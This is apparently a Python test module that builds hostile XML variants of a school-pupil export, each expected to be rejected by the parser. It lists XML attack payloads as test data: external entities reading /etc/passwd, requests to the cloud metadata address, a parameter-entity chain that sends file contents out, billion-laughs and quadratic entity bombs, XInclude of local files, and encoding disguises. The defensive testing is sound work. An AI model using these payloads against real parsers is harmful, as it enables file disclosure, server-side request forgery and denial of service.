"""Document types and entities in every place and disguise, and what else could make a parser fetch or expand."""

from collections.abc import Iterator

from cpro_test_support.hostile_files.hostile_file import (
    CHUNK_BYTES,
    HostileFile,
    Make,
    Row,
    Target,
    after,
    files,
    in_content,
    in_name,
    in_pupils,
    swapped,
)
from cpro_test_support.siecle_samples import zipped

_EXTERNAL = b'<!DOCTYPE BEE_ELEVES [<!ENTITY x SYSTEM "%s">]>'
_INCLUDE = b'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="%s" %s/>'


def _doctype(declaration: bytes, *, use: bytes = b"", lead: bytes = b"") -> Make:
    """A good export with a declaration before its root, and a use of what it declares in the first name."""

    def make(target: Target) -> bytes:
        content = after(target.xml(), b"?>\n", lead + declaration + b"\n")
        return after(content, b"<NOM_DE_FAMILLE>", use) if use else content

    return make


def _laughs(levels: int, times: int) -> bytes:
    entities = [b'<!ENTITY e0 "ha">']
    entities += [b'<!ENTITY e%d "%s">' % (level, b"&e%d;" % (level - 1) * times) for level in range(1, levels + 1)]
    return b"<!DOCTYPE BEE_ELEVES [" + b"".join(entities) + b"]>"


def _across_the_border(word: bytes, cut: int) -> Make:
    """`word` in the content, `cut` bytes of it in the first chunk of the reader."""

    def make(target: Target) -> bytes:
        start, end = target.xml().split(b"<DONNEES>", 1)
        start += b"<DONNEES><X><A/>"
        padding = CHUNK_BYTES - len(start) - cut
        return start + b"<A/>" * (padding // 4) + b" " * (padding % 4) + word + b"</X>" + end

    return make


def _far_from_the_root(target: Target) -> bytes:
    """More comment before the declaration than the reader looks at to find the root."""
    return after(target.xml(), b"?>\n", b"<!-- " + b"x" * CHUNK_BYTES + b" --><!DOCTYPE BEE_ELEVES>")


def _in(encoding: str, *, mark: bytes = b"", declared: bytes | None = None) -> Make:
    """Entities in an encoding in which the usual bytes of a declaration are not found."""

    def make(target: Target) -> bytes:
        text = _doctype(_laughs(9, 10), use=b"&e9;")(target)
        head, rest = text.decode("iso8859-15").split("?>", 1)
        name = (declared or encoding.encode()).decode()
        return mark + (head.replace("ISO-8859-15", name) + "?>" + rest).encode(encoding, "replace")

    return make


def _with_mark(target: Target) -> bytes:
    return after(target.xml(encoding="UTF-8", byte_order_mark=True), b"?>\n", b"<!DOCTYPE BEE_ELEVES>")


def _without_header(target: Target) -> bytes:
    return b"<!DOCTYPE BEE_ELEVES [<!ENTITY x 'y'>]>" + target.xml(encoding="UTF-8").split(b"?>\n", 1)[1]


def _included(href: bytes, rest: bytes = b"") -> Make:
    """An inclusion instead of the pupils: who resolves it finds a file, who does not finds no pupil."""
    return lambda target: after(target.xml(pupils=[]), b"<ELEVES>", _INCLUDE % (href, rest))


_ROWS: tuple[Row, ...] = (
    ("empty", "doctype_forbidden", _doctype(b"<!DOCTYPE BEE_ELEVES>")),
    ("after-a-comment", "doctype_forbidden", _doctype(b"<!DOCTYPE BEE_ELEVES>", lead=b"<!-- export -->")),
    ("after-an-instruction", "doctype_forbidden", _doctype(b"<!DOCTYPE BEE_ELEVES>", lead=b"<?x y?>")),
    ("after-blank-lines", "doctype_forbidden", _doctype(b"<!DOCTYPE BEE_ELEVES>", lead=b"\n\n\t  \r\n")),
    ("after-a-byte-order-mark", "doctype_forbidden", _with_mark),
    ("without-header", "doctype_forbidden", _without_header),
    ("lower-case", "xml_malformed", _doctype(b"<!doctype BEE_ELEVES>")),
    ("mixed-case", "xml_malformed", _doctype(b"<!DocType BEE_ELEVES [<!Entity x 'y'>]>")),
    ("spaced", "xml_malformed", _doctype(b"<! DOCTYPE BEE_ELEVES>")),
    ("tabbed", "doctype_forbidden", _doctype(b"<!DOCTYPE\t\r\n BEE_ELEVES\n>")),
    ("never-closed", "doctype_forbidden", _doctype(b"<!DOCTYPE BEE_ELEVES [")),
    ("of-another-root", "doctype_forbidden", _doctype(b"<!DOCTYPE html>")),
    ("twice", "doctype_forbidden", _doctype(b"<!DOCTYPE BEE_ELEVES><!DOCTYPE BEE_ELEVES>")),
    ("public-identifier", "doctype_forbidden", _doctype(b'<!DOCTYPE BEE_ELEVES PUBLIC "-//X//Y" "http://127.0.0.1/x.dtd">')),
    ("external-subset-file", "doctype_forbidden", _doctype(b'<!DOCTYPE BEE_ELEVES SYSTEM "file:///etc/passwd">')),
    ("external-subset-http", "doctype_forbidden", _doctype(b'<!DOCTYPE BEE_ELEVES SYSTEM "http://127.0.0.1:9/x.dtd">')),
    ("in-the-content", "doctype_forbidden", in_content(b"<!DOCTYPE BEE_ELEVES>")),
    ("in-a-name", "doctype_forbidden", in_name(b"<!DOCTYPE x>")),
    ("in-character-data", "doctype_forbidden", in_pupils(b"<![CDATA[<!DOCTYPE x>]]>")),
    ("in-a-comment", "doctype_forbidden", in_pupils(b"<!-- <!DOCTYPE x> -->")),
    ("entity-without-doctype", "doctype_forbidden", in_content(b'<!ENTITY x "y">')),
    ("after-the-root", "doctype_forbidden", lambda target: target.xml() + b"<!DOCTYPE BEE_ELEVES>"),
    ("far-from-the-root", "xml_malformed", _far_from_the_root),
    *((f"split-after-{cut}-bytes", "doctype_forbidden", _across_the_border(b"<!DOCTYPE x>", cut)) for cut in range(1, 9)),
    *((f"entity-split-after-{cut}", "doctype_forbidden", _across_the_border(b"<!ENTITY x 'y'>", cut)) for cut in (2, 5, 7)),
    ("billion-laughs", "doctype_forbidden", _doctype(_laughs(9, 10), use=b"&e9;")),
    ("billion-laughs-unused", "doctype_forbidden", _doctype(_laughs(9, 10))),
    ("million-laughs-in-an-attribute", "doctype_forbidden",
        lambda target: swapped(_doctype(_laughs(6, 10))(target), b"ELENOET=\"", b"ELENOET=\"&e6;")),
    ("deep-laughs", "doctype_forbidden", _doctype(_laughs(400, 2), use=b"&e400;")),
    ("quadratic-blow-up", "doctype_forbidden",
        _doctype(b"<!DOCTYPE BEE_ELEVES [<!ENTITY q '" + b"q" * 20_000 + b"'>]>", use=b"&q;" * 10_000)),
    ("entity-of-itself", "doctype_forbidden", _doctype(b"<!DOCTYPE BEE_ELEVES [<!ENTITY x '&x;'>]>", use=b"&x;")),
    ("entities-in-a-ring", "doctype_forbidden",
        _doctype(b"<!DOCTYPE BEE_ELEVES [<!ENTITY a '&b;'><!ENTITY b '&a;'>]>", use=b"&a;")),
    ("external-file", "doctype_forbidden", _doctype(_EXTERNAL % b"file:///etc/passwd", use=b"&x;")),
    ("external-device", "doctype_forbidden", _doctype(_EXTERNAL % b"file:///dev/zero", use=b"&x;")),
    ("external-http", "doctype_forbidden", _doctype(_EXTERNAL % b"http://127.0.0.1:9/x", use=b"&x;")),
    ("external-cloud-address", "doctype_forbidden", _doctype(_EXTERNAL % b"http://169.254.169.254/latest", use=b"&x;")),
    ("external-ftp", "doctype_forbidden", _doctype(_EXTERNAL % b"ftp://127.0.0.1/x", use=b"&x;")),
    ("external-relative", "doctype_forbidden", _doctype(_EXTERNAL % b"../../../../etc/hostname", use=b"&x;")),
    ("external-unparsed", "doctype_forbidden",
        _doctype(b'<!DOCTYPE BEE_ELEVES [<!NOTATION n SYSTEM "x"><!ENTITY x SYSTEM "file:///etc/passwd" NDATA n>]>')),
    ("parameter-entity", "doctype_forbidden",
        _doctype(b'<!DOCTYPE BEE_ELEVES [<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;]>')),
    ("parameter-entity-that-tells", "doctype_forbidden",
        _doctype(b'<!DOCTYPE BEE_ELEVES [<!ENTITY % f SYSTEM "file:///etc/passwd">'
                 b"<!ENTITY % t \"<!ENTITY &#37; s SYSTEM 'http://127.0.0.1:9/?%f;'>\">%t;%s;]>")),
    ("parameter-laughs", "doctype_forbidden",
        _doctype(b"<!DOCTYPE BEE_ELEVES [<!ENTITY % a 'x'><!ENTITY % b '%a;%a;'><!ENTITY % c '%b;%b;'>%c;]>")),
    ("attribute-defaults", "doctype_forbidden",
        _doctype(b"<!DOCTYPE BEE_ELEVES [<!ATTLIST ELEVE ELEVE_ID CDATA '1'>]>")),
    ("conditional-section", "doctype_forbidden", _doctype(b"<!DOCTYPE BEE_ELEVES [<![INCLUDE[<!ENTITY x 'y'>]]>]>")),
    ("zipped", "doctype_forbidden",
        lambda target: zipped({"a.xml": _doctype(_EXTERNAL % b"file:///etc/passwd", use=b"&x;")(target)})),
    ("utf-16-le-marked", "encoding_unknown", _in("utf-16-le", mark=b"\xff\xfe", declared=b"UTF-16")),
    ("utf-16-be-marked", "encoding_unknown", _in("utf-16-be", mark=b"\xfe\xff", declared=b"UTF-16")),
    ("utf-16-le", "encoding_unknown", _in("utf-16-le")),
    ("utf-16-be", "encoding_unknown", _in("utf-16-be")),
    ("utf-16-le-saying-latin", "encoding_unknown", _in("utf-16-le", declared=b"ISO-8859-15")),
    ("utf-32-le-marked", "encoding_unknown", _in("utf-32-le", mark=b"\xff\xfe\0\0")),
    ("utf-32-be-marked", "encoding_unknown", _in("utf-32-be", mark=b"\0\0\xfe\xff")),
    ("utf-32-le", "encoding_unknown", _in("utf-32-le")),
    ("utf-32-be", "encoding_unknown", _in("utf-32-be")),
    ("utf-7", "not_xml_nor_zip", lambda target: b"+ADw-" + _doctype(b"+ADwAIQ-DOCTYPE x+AD4-")(target)[1:]),
    ("utf-7-declared", "encoding_unknown",
        lambda target: swapped(_doctype(b"+ADwAIQ-DOCTYPE x+AD4-")(target), b"ISO-8859-15", b"UTF-7")),
    ("ebcdic", "not_xml_nor_zip", _in("cp500", declared=b"IBM500")),
    ("inclusion-of-a-file", "no_pupil", _included(b"file:///etc/passwd", b'parse="text"')),
    ("inclusion-of-an-address", "no_pupil", _included(b"http://127.0.0.1:9/eleves.xml")),
    ("inclusion-of-itself", "no_pupil", _included(b"", b'xpointer="xpointer(/)"')),
)  # fmt: skip


def declarations() -> Iterator[HostileFile]:
    """See the module."""
    yield from files("declaration", _ROWS)
